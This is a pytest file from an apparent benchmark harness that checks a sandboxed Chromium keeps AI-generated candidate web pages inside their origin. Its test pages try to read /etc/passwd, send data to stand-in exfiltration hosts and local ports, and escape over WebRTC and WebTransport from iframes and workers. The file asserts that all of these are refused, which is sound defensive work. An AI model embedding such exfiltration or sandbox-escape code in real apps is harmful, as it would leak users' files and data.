"""The candidate's page is kept in (issue 18, items 2-5): request guard, sandboxed unannounced Chromium, trust.

The page tests are marked ``chromium`` (Debian's /usr/bin/chromium through Playwright). The prediction
tests call the suite's ``evaluate`` with a stand-in context and reach neither a browser nor a daemon.
"""

from __future__ import annotations

import http.server
import os
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from pytest_mobilebench.predictions import Prediction
from pytest_mobilebench.suites.app_generation import SUITE
from pytest_mobilebench.suites.app_generation import navigation as nav
from pytest_mobilebench.suites.app_generation.serve import RequestGuard, origin_of, serve_spa, stage_files

ROOT = Path(__file__).resolve().parents[1]
APPS = ROOT / "fixtures" / "apps"
CASE = ROOT / "cases" / "app_generation" / "tabs_demo.yaml"

chromium = pytest.mark.chromium
no_chromium = pytest.mark.skipif(not Path(nav.CHROMIUM_PATH).exists(), reason=f"{nav.CHROMIUM_PATH} is absent")

#: a candidate page that tries every way out it has
_ATTACK_PAGE = """<!doctype html><html><body><p id="t">hello</p>
<img src="file:///etc/passwd"><iframe src="file:///etc/hostname"></iframe>
<script>
const other = "http://127.0.0.1:{port}";
window.results = [];
const note = (what, p) => p.then(r => window.results.push(what + ':ok'), e => window.results.push(what + ':refused'));
note('local', fetch(other + '/steal?x=1'));
note('file', fetch('file:///etc/passwd'));
note('outside', fetch('http://203.0.113.7/exfil'));
note('outside-name', fetch('https://collector.example/exfil'));
try {{ const ws = new WebSocket('ws://127.0.0.1:{port}/ws'); ws.onopen = () => window.results.push('ws:open'); }}
catch (e) {{ window.results.push('ws:throw'); }}
navigator.sendBeacon(other + '/beacon', 'x');
note('own', fetch('/index.html'));
</script></body></html>
"""


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        type(self).hits.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"secret")

    do_POST = do_GET

    def log_message(self, format: str, *args: Any) -> None:
        return


@pytest.fixture()
def second_server() -> Iterator[tuple[int, list[str]]]:
    """Another local server (what a harness's result cache or a judge endpoint could be): records every hit."""
    _Recorder.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], _Recorder.hits
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    handle = nav.launch_browser()
    yield handle.browser()
    handle.close()


def test_origin_and_guard_rules() -> None:
    assert origin_of("http://127.0.0.1:5000/a?b") == ("http", "127.0.0.1", 5000)
    assert origin_of("http://h/") == ("http", "h", 80) and origin_of("wss://h/x") == ("wss", "h", 443)
    guard = RequestGuard("http://127.0.0.1:5000")
    assert guard.allowed("http://127.0.0.1:5000/assets/x.js") and guard.allowed("data:image/png;base64,AA")
    for url in (
        "http://127.0.0.1:5001/",
        "http://localhost:5000/",
        "https://127.0.0.1:5000/",
        "file:///etc/passwd",
        "http://203.0.113.7/",
    ):
        assert not guard.allowed(url), url


def test_stage_files_refuses_unsafe_names(tmp_path: Path) -> None:
    out = stage_files({"index.html": b"x", "assets/a.js": b"y"}, tmp_path / "serve")
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()) == ["assets/a.js", "index.html"]
    with pytest.raises(ValueError, match="'..'"):
        stage_files({"../escape.html": b"x"}, tmp_path / "serve2")
    with pytest.raises(FileExistsError):
        stage_files({"a": b""}, out)


@chromium
@no_chromium
def test_page_cannot_leave_its_origin(browser: Any, second_server: tuple[int, list[str]], tmp_path: Path) -> None:
    port, hits = second_server
    site = stage_files({"index.html": _ATTACK_PAGE.format(port=port).encode()}, tmp_path / "site")
    with serve_spa(site) as base_url:
        context = nav.new_mobile_context(browser, base_url)
        try:
            page = context.new_page()
            page.goto(base_url + "/", wait_until="load")
            page.wait_for_function("window.results.length >= 4", timeout=10000)
            page.wait_for_timeout(300)
            results = page.evaluate("window.results")
            refused = nav.refused_of(context)
        finally:
            context.close()
    assert hits == []  # the second local server never saw a request (fetch, beacon, websocket)
    assert "own:ok" in results
    assert {"local:refused", "file:refused", "outside:refused", "outside-name:refused"} <= set(results)
    assert "ws:open" not in results
    urls = {(r["url"], r["by"]) for r in refused}
    assert (f"http://127.0.0.1:{port}/steal?x=1", "route") in urls
    assert (f"http://127.0.0.1:{port}/beacon", "route") in urls
    assert ("http://203.0.113.7/exfil", "route") in urls and ("https://collector.example/exfil", "route") in urls
    assert (f"ws://127.0.0.1:{port}/ws", "websocket") in urls
    assert ("file:///etc/passwd", "browser") in urls and ("file:///etc/hostname", "browser") in urls
    assert not any(base_url in u for u, _by in urls)


#: ways out that are not requests (so no route sees them): WebRTC's STUN (UDP) and TURN-over-TCP to an ICE
#: server the page names, and WebTransport (QUIC, UDP); each also from a fresh same-origin iframe's realm
#: (WebTransport from a worker's realm is a documented residual)
_NON_REQUEST_PAGE = """<!doctype html><html><body><script>
const servers = {{iceServers: [{{urls: 'turn:127.0.0.1:{port}?transport=tcp', username: 'a', credential: 'b'}},
                               {{urls: 'stun:127.0.0.1:{port}'}}]}};
window.results = [];
function rtc(win, tag) {{
  try {{ const PC = win.RTCPeerConnection || win.webkitRTCPeerConnection; const pc = new PC(servers);
         pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o));
             window.results.push(tag + ':made'); }}
  catch (e) {{ window.results.push(tag + ':refused'); }}
}}
function wt(win, tag) {{
  try {{ const t = new win.WebTransport('https://127.0.0.1:{port}/wt'); t.ready.catch(() => 0);
      window.results.push(tag + ':made'); }}
  catch (e) {{ window.results.push(tag + ':refused'); }}
}}
const frame = document.createElement('iframe'); document.body.appendChild(frame);
rtc(window, 'rtc'); rtc(frame.contentWindow, 'rtc-iframe'); wt(window, 'wt'); wt(frame.contentWindow, 'wt-iframe');
</script></body></html>
"""


@chromium
@no_chromium
def test_page_reaches_no_local_port_without_a_request(browser: Any, tmp_path: Path) -> None:
    """A listener on a second local port (TCP and UDP) sees nothing of WebRTC or WebTransport."""
    import socket

    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    tcp.settimeout(0.2)
    port = tcp.getsockname()[1]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", port))
    udp.settimeout(0.2)
    site = stage_files({"index.html": _NON_REQUEST_PAGE.format(port=port).encode()}, tmp_path / "site")
    hits: list[str] = []
    try:
        with serve_spa(site) as base_url:
            context = nav.new_mobile_context(browser, base_url)
            try:
                page = context.new_page()
                page.goto(base_url + "/", wait_until="load")
                page.wait_for_function("window.results.length >= 4", timeout=10000)
                for _ in range(10):  # about 2 s for ICE gathering and QUIC handshakes
                    for sock, kind in ((tcp, "tcp"), (udp, "udp")):
                        try:
                            got = sock.accept()[0] if kind == "tcp" else sock.recvfrom(2048)
                            hits.append(kind)
                            if kind == "tcp":
                                got.close()
                        except TimeoutError:
                            pass
                results = page.evaluate("window.results")
            finally:
                context.close()
    finally:
        tcp.close()
        udp.close()
    assert hits == [], (hits, results)
    assert results == ["rtc:refused", "rtc-iframe:refused", "wt:refused", "wt-iframe:refused"]


#: a worker's realm, which no init script reaches, keeps WebTransport (QUIC over UDP): a dedicated worker from
#: the app's own script, one from a blob, and a shared worker each open one to the local UDP port
_WORKER = """const r = ['wt:' + typeof WebTransport];
try {{ const t = new WebTransport('https://127.0.0.1:{port}/wt'); t.ready.catch(() => 0); r.push('made'); }}
catch (e) {{ r.push('refused'); }}
const say = r.join(' ');
if (self.constructor.name === 'SharedWorkerGlobalScope') onconnect = e => e.ports[0].postMessage(say);
else postMessage(say);
"""
_WORKER_PAGE = """<!doctype html><html><body><script>
window.results = [];
const got = tag => e => window.results.push(tag + ' ' + e.data);
new Worker('/w.js').onmessage = got('dedicated');
fetch('/w.js').then(r => r.text()).then(code => {
  new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'}))).onmessage = got('blob'); });
const shared = new SharedWorker('/w.js'); shared.port.onmessage = got('shared'); shared.port.start();
</script></body></html>
"""


@chromium
@no_chromium
@pytest.mark.skipif(os.geteuid() != 0, reason="Chromium gets a network namespace of its own when the harness is root")
def test_a_workers_webtransport_reaches_no_local_udp_port(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Chromium runs in a network namespace of its own (pages are answered through Playwright's pipe): the
    workers' WebTransport constructors exist and run, and the UDP listener on this host receives nothing.
    Chromium's Local Network Access checks are switched off here, so the namespace alone stands in the way
    (with them on, a fulfilled page counts as public and is refused too; without the namespace the same page
    reaches the port: 12 QUIC Initial packets in 3 s)."""
    import socket

    from pytest_mobilebench.suites.app_generation import browser as browser_module

    no_lna = "--disable-features=LocalNetworkAccessChecks"
    monkeypatch.setattr(browser_module, "CHROMIUM_ARGS", (*browser_module.CHROMIUM_ARGS, no_lna))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.2)
    port = udp.getsockname()[1]
    site = stage_files(
        {"index.html": _WORKER_PAGE.encode(), "w.js": _WORKER.format(port=port).encode()}, tmp_path / "site"
    )
    handle = nav.launch_browser()
    packets = 0
    try:
        with serve_spa(site) as base_url:
            context = nav.new_mobile_context(handle.browser(), base_url)
            page = context.new_page()
            page.goto(base_url + "/", wait_until="load")
            page.wait_for_function("window.results.length >= 3", timeout=15000)
            for _ in range(15):  # about 3 s of QUIC handshake retries
                try:
                    udp.recvfrom(2048)
                    packets += 1
                except TimeoutError:
                    pass
            results = sorted(page.evaluate("window.results"))
            context.close()
    finally:
        handle.close()
        udp.close()
    assert results == ["blob wt:function made", "dedicated wt:function made", "shared wt:function made"]
    assert packets == 0


@chromium
@no_chromium
def test_refusals_reach_the_spec_evidence(browser: Any, second_server: tuple[int, list[str]], tmp_path: Path) -> None:
    port, hits = second_server
    manifest = SUITE.load(CASE, yaml.safe_load(CASE.read_text(encoding="utf-8")))[0].record
    spec = next(s for s in manifest.nav_tests if s.id == "exists-home")
    site = stage_files({"index.html": _ATTACK_PAGE.format(port=port).encode()}, tmp_path / "site")
    with serve_spa(site) as base_url:
        ev = nav.run_spec(browser, base_url, manifest, spec, out_dir=tmp_path / "nav")
    assert hits == []
    assert f"http://127.0.0.1:{port}/steal?x=1" in {r["url"] for r in ev["refused"]}
    assert '"refused"' in (tmp_path / "nav" / "exists-home.json").read_text(encoding="utf-8")


@chromium
@no_chromium
def test_browser_does_not_announce_itself(browser: Any, tmp_path: Path) -> None:
    site = stage_files({"index.html": b"<p>x</p>"}, tmp_path / "site")
    with serve_spa(site) as base_url:
        context = nav.new_mobile_context(browser, base_url)
        try:
            page = context.new_page()
            page.goto(base_url + "/")
            webdriver, ua, brands, mobile = page.evaluate(
                "[navigator.webdriver, navigator.userAgent, navigator.userAgentData.brands.map(b => b.brand),"
                " navigator.userAgentData.mobile]"
            )
        finally:
            context.close()
    assert webdriver is False
    assert "Headless" not in ua and "Mobile Safari" in ua and "Android" in ua
    assert not any("Headless" in b for b in brands) and mobile is True


@chromium
@no_chromium
def test_chromium_runs_sandboxed() -> None:
    assert "--no-sandbox" not in nav.CHROMIUM_ARGS
    handle = nav.launch_browser()
    try:
        context = handle.browser().new_context()  # no guard: the browser's own status page
        page = context.new_page()
        page.goto("chrome://sandbox")
        status = page.inner_text("body")
        context.close()
    finally:
        handle.close()
    assert "You are adequately sandboxed." in status and "Seccomp-BPF sandbox\tYes" in status


# ------------------------------------------------------------------------------------ trust and source


class _Ctx:
    """The evaluation context of a prediction that must end before any browser or daemon is needed."""

    def __init__(self, evidence: Path, options: dict[str, Any]) -> None:
        self.run_id, self.evidence_dir, self.options = "t", evidence, options

    def resource(self, key: str, factory: Any, close: Any = None) -> Any:
        raise AssertionError(f"no resource expected: {key}")

    def progress(self, message: str) -> None:
        pass

    def fixture(self, name: str) -> Any:
        assert name == "mb_runtime", name
        from pytest_mobilebench.runtime.provider import ProviderContext, RuntimeSource, builtin_providers

        # the built-in providers as the plugin makes them, with no daemon answering (mb_docker_client None)
        ctx = ProviderContext(options=self.options, run_id=self.run_id, progress=self.progress, fixture=lambda _: None)
        return RuntimeSource(builtin_providers(), ctx)


def _evaluate(tmp_path: Path, pred: dict[str, Any], options: dict[str, Any]) -> dict[str, Any]:
    record = SUITE.load(CASE, yaml.safe_load(CASE.read_text(encoding="utf-8")))[0]
    full = {
        "instance_id": "tabs_demo",
        "model_name_or_path": "m",
        "input_tokens": 1,
        "output_tokens": 1,
        "llm_calls": 1,
        "llm_seconds": 1.0,
        **pred,
    }
    evidence = tmp_path / "ev"
    evidence.mkdir()
    return SUITE.evaluate(record, Prediction.from_entry(full, APPS), _Ctx(evidence, options))


def test_sourceless_prediction_fails_the_build_axis(tmp_path: Path) -> None:
    skeleton = tmp_path / "skeleton"
    skeleton.mkdir()
    (skeleton / "index.html").write_text("<html><body><nav><a href='/search'>Search</a></nav></body></html>")
    out = _evaluate(tmp_path, {"prebuilt_dist": str(skeleton)}, {"mb_app_build": "auto"})
    assert (out["reason"], out["passed"]) == ("build_failed", False)
    assert out["properties"]["build_failure"] == "no_source" and out["detail"].startswith("no_source")
    assert out["properties"]["build_ok"] is False and out["nav"] == []


def test_prebuilt_dist_is_not_used_untrusted(tmp_path: Path) -> None:
    out = _evaluate(
        tmp_path, {"project_path": "tabs_demo", "prebuilt_dist": "tabs_demo/dist"}, {"mb_app_build": "auto"}
    )
    # untrusted: built from source, and with no daemon that build is refused as the harness's infra
    assert out["reason"] == "infra_error" and out["retryable"] is True
    assert out["properties"]["infra_kind"] == "daemon_unreachable" and "build_mode" not in out["properties"]


def test_cache_key_covers_every_build_input(tmp_path: Path) -> None:
    project = tmp_path / "app"
    (project / "src" / "dist").mkdir(parents=True)
    (project / "src" / "main.tsx").write_text("import './dist/x';\n")
    (project / "src" / "dist" / "x.ts").write_text("export const a = 1;\n")
    record = SUITE.load(CASE, yaml.safe_load(CASE.read_text(encoding="utf-8")))[0]
    pred = Prediction.from_entry({"instance_id": "tabs_demo", "model_name_or_path": "m", "project_path": str(project)})
    before = SUITE.cache_material(record, pred, {})
    (project / "src" / "dist" / "x.ts").write_text("export const a = 2;\n")
    after = SUITE.cache_material(record, pred, {})
    assert before != after
    assert SUITE.cache_material(record, pred, {"mb_trust_candidates": True}) != after
